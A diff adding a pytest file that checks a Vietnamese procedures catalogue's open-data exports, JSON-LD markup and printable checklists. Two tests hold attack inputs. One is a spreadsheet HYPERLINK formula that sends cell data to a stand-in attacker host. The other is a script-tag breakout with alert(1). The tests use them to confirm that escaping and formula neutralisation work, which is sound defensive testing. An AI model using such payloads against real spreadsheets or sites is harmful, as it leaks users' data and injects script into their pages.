@@ -1,0 +1,217 @@
+"""Open data downloads, schema.org JSON-LD on procedure pages, and the printable checklists.
+
+The seed catalogue is built into a temporary site (as tests/test_site.py does) and the downloads
+are written next to it with `write_open_data`, then read back the way a user's tools would.
+"""
+
+import csv
+import html
+import io
+import json
+import re
+from pathlib import Path
+
+import pytest
+
+from buildlib import opendata
+from buildlib.catalogue import load, version_in_force
+from buildlib.render import Shell, check_links, shown_version
+from buildlib.site import build_command
+from buildlib.yamlsource import load_text
+
+ROOT = Path(__file__).resolve().parent.parent
+TODAY = "2026-09-15"
+REVISION = "0123456789abcdef0123456789abcdef01234567"
+CODES = sorted(p.name for p in (ROOT / "catalogue" / "procedures").iterdir())
+LD_JSON = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)
+
+
+def build(catalogue: Path, tmp: Path) -> Path:
+    out = io.StringIO()
+    site_dir = tmp / "site"
+    code = build_command(
+        catalogue, out=out, today=TODAY, site_dir=site_dir, cache_dir=tmp / "cache"
+    )
+    assert code == 0, out.getvalue()
+    return site_dir
+
+
+def publish(catalogue: Path, site_dir: Path) -> list[tuple[str, int]]:
+    shell = Shell.from_html((site_dir / "_shell" / "index.html").read_text(encoding="utf-8"))
+    return opendata.write_open_data(load(catalogue), site_dir, TODAY, REVISION, shell=shell)
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    tmp = tmp_path_factory.mktemp("opendata")
+    site_dir = build(ROOT / "catalogue", tmp)
+    publish(ROOT / "catalogue", site_dir)
+    return site_dir
+
+
+def versions_of(code: str, catalogue: Path = ROOT / "catalogue") -> list[dict]:
+    folder = catalogue / "procedures" / code
+    return [
+        load_text(p.read_text(encoding="utf-8"), p.name)[0] for p in sorted(folder.glob("*.yaml"))
+    ]
+
+
+def read_csv(path: Path) -> list[dict]:
+    with path.open(encoding="utf-8", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+def rename(catalogue: Path, code: str, name: str) -> None:
+    """Gives every version of `code` the name `name` (so no check sees a rename)."""
+    quoted = "'" + name.replace("'", "''") + "'"
+    for path in (catalogue / "procedures" / code).glob("*.yaml"):
+        text = path.read_text(encoding="utf-8")
+        path.write_text(re.sub(r"(?m)^name: .*$", f"name: {quoted}", text, count=1), "utf-8")
+
+
+def test_every_download_exists_parses_and_states_the_revision_and_build_date(site: Path) -> None:
+    folder = site / "du-lieu-mo"
+    whole = json.loads((folder / "thu-tuc.json").read_text(encoding="utf-8"))
+    sidecar = json.loads((folder / "thu-tuc.csv.meta.json").read_text(encoding="utf-8"))
+    graph = json.loads((folder / "cpsv-ap.jsonld").read_text(encoding="utf-8"))
+    single = json.loads((folder / "thu-tuc" / f"{CODES[0]}.json").read_text(encoding="utf-8"))
+    for document in (whole, sidecar, graph, single):
+        assert document["meta"]["revision"] == REVISION
+        assert document["meta"]["built"] == TODAY
+    assert sidecar["meta"]["file"] == "thu-tuc.csv"
+    rows = read_csv(folder / "thu-tuc.csv")
+    assert list(rows[0]) == opendata.CSV_COLUMNS
+
+
+def test_every_procedure_is_in_every_download_with_all_its_versions(site: Path) -> None:
+    folder = site / "du-lieu-mo"
+    whole = json.loads((folder / "thu-tuc.json").read_text(encoding="utf-8"))
+    graph = json.loads((folder / "cpsv-ap.jsonld").read_text(encoding="utf-8"))
+    assert sorted(whole["procedures"]) == CODES
+    assert [r["code"] for r in read_csv(folder / "thu-tuc.csv")] == CODES
+    assert sorted(n["dct:identifier"] for n in graph["@graph"]) == CODES
+    for code in CODES:
+        starts = [v["effective_from"] for v in versions_of(code)]
+        assert [v["effective_from"] for v in whole["procedures"][code]] == starts
+        single = json.loads((folder / "thu-tuc" / f"{code}.json").read_text(encoding="utf-8"))
+        assert [v["effective_from"] for v in single["versions"]] == starts
+
+
+def test_the_csv_row_is_the_version_the_page_shows_today(site: Path) -> None:
+    for row in read_csv(site / "du-lieu-mo" / "thu-tuc.csv"):
+        shown = shown_version(versions_of(row["code"]), TODAY)
+        assert row["effective_from"] == shown["effective_from"]
+        assert row["url"] == f"{opendata.public_base()}thu-tuc/{row['code']}/"
+        in_force = version_in_force(versions_of(row["code"]), TODAY)
+        assert (row["status"] == "in_force") == (in_force is not None)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_starting_a_formula_gets_a_leading_apostrophe(start: str) -> None:
+    assert opendata.safe_cell(start + "1+1") == "'" + start + "1+1"
+    assert opendata.safe_cell("Thủ tục " + start) == "Thủ tục " + start
+
+
+def test_a_procedure_name_starting_with_a_formula_is_neutralised_in_the_csv(
+    catalogue_copy: Path, tmp_path: Path
+) -> None:
+    name = '=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào đây")'
+    rename(catalogue_copy, CODES[0], name)
+    site_dir = tmp_path / "site"
+    opendata.write_open_data(load(catalogue_copy), site_dir, TODAY, REVISION)
+    row = next(
+        r for r in read_csv(site_dir / "du-lieu-mo" / "thu-tuc.csv") if r["code"] == CODES[0]
+    )
+    assert row["name"] == "'" + name
+    for rows in read_csv(site_dir / "du-lieu-mo" / "thu-tuc.csv"):
+        assert not any(cell.startswith(opendata.FORMULA_START) for cell in rows.values())
+
+
+def test_cpsv_ap_channels_say_their_deadline_in_exactly_one_way(site: Path) -> None:
+    graph = json.loads((site / "du-lieu-mo" / "cpsv-ap.jsonld").read_text(encoding="utf-8"))
+    assert graph["@context"]["motcua"] == opendata.NS
+    ways = ("cv:processingTime", "motcua:workingDays", "motcua:sameDay")
+    for service in graph["@graph"]:
+        assert service["@type"] == "cpsv:PublicService"
+        for channel in service["cv:hasChannel"]:
+            said = [w for w in ways if w in channel]
+            unpublished = "cv:processingTime" in channel.get("motcua:unpublished", [])
+            assert len(said) + unpublished == 1, channel
+            if "cv:processingTime" in channel:
+                assert re.fullmatch(r"P\d+D|PT\d+H", channel["cv:processingTime"])
+        for cost in service["cv:hasCost"]:
+            assert cost["@type"] == "cv:Cost"
+            assert cost.get("cv:currency", "VND") == "VND"
+
+
+def test_deadline_units_map_to_iso_durations_or_working_days() -> None:
+    assert opendata._duration({"amount": 3, "unit": "days"}) == {"cv:processingTime": "P3D"}
+    assert opendata._duration({"amount": 4, "unit": "hours"}) == {"cv:processingTime": "PT4H"}
+    assert opendata._duration({"amount": 5, "unit": "working_days"}) == {"motcua:workingDays": 5}
+    assert opendata._duration({"amount": 1, "unit": "unpublished"}) == {
+        "motcua:unpublished": ["cv:processingTime"]
+    }
+
+
+def test_the_open_data_page_lists_the_downloads_with_sizes_revision_and_date(site: Path) -> None:
+    page = site / "du-lieu-mo" / "index.html"
+    raw = page.read_text(encoding="utf-8")
+    for name in ("thu-tuc.json", "thu-tuc.csv", "thu-tuc.csv.meta.json", "cpsv-ap.jsonld"):
+        assert f'href="{name}"' in raw
+    assert REVISION in raw and "15/09/2026" in raw
+    assert re.search(r"\d+(,\d)? (KB|MB|B)<", raw)
+    assert check_links("du-lieu-mo/index.html", raw, lambda p: (site / p).exists()) == []
+
+
+def test_every_procedure_page_carries_a_parseable_government_service(site: Path) -> None:
+    for code in CODES:
+        raw = (site / "thu-tuc" / code / "index.html").read_text(encoding="utf-8")
+        (block,) = LD_JSON.findall(raw)
+        data = json.loads(block)
+        assert data["@type"] == "GovernmentService"
+        assert data["@context"] == "https://schema.org"
+        assert data["name"] == shown_version(versions_of(code), TODAY)["name"]
+        assert data["url"] == f"{opendata.public_base()}thu-tuc/{code}/"
+
+
+def test_a_closing_script_tag_in_catalogue_text_cannot_break_out_of_the_json_ld(
+    catalogue_copy: Path, tmp_path: Path
+) -> None:
+    name = "Thủ tục </script><script>alert(1)</script><!-- thử"
+    rename(catalogue_copy, CODES[0], name)
+    raw = (build(catalogue_copy, tmp_path) / "thu-tuc" / CODES[0] / "index.html").read_text(
+        encoding="utf-8"
+    )
+    (block,) = LD_JSON.findall(raw)  # the JSON-LD element ends where it should
+    assert json.loads(block)["name"] == name
+    assert "<script>alert(1)" not in LD_JSON.sub("", raw)  # elsewhere it is escaped text
+    assert not re.search(r"(?i)<(/|!--|script)", block)
+    assert "\u2028" not in opendata.script_json({"x": "a\u2028b"})
+
+
+def test_every_procedure_has_a_printable_checklist_with_a_qr_code_and_every_document(
+    site: Path,
+) -> None:
+    for code in CODES:
+        raw = (site / "thu-tuc" / code / "in" / "index.html").read_text(encoding="utf-8")
+        assert re.search(r'<svg [^>]*role="img"', raw), code
+        content = html.unescape(re.sub(r"\s+", " ", raw))
+        versions = versions_of(code)
+        version = version_in_force(versions, TODAY) or shown_version(versions, TODAY)
+        for case in version["cases"]:
+            for document in case.get("documents", []):
+                assert re.sub(r"\s+", " ", document["name"]) in content, (code, document["name"])
+        assert f"{opendata.public_base()}thu-tuc/{code}/" in content
+        page = (site / "thu-tuc" / code / "index.html").read_text(encoding="utf-8")
+        assert 'href="../../thu-tuc/' + code + '/in/"' in page
+
+
+def test_the_qr_code_is_inline_svg_made_at_build_time() -> None:
+    svg = opendata.qr_svg("https://example.org/thu-tuc/1.000656/")
+    assert svg.startswith("<svg ") and svg.rstrip().endswith("</svg>")
+    assert "<script" not in svg and "href" not in svg
+
+
+def test_print_styles_hide_the_site_frame() -> None:
+    css = (ROOT / "theme" / "assets" / "site.css").read_text(encoding="utf-8")
+    assert "@media print" in css and ".md-header" in css.split("@media print", 1)[1]
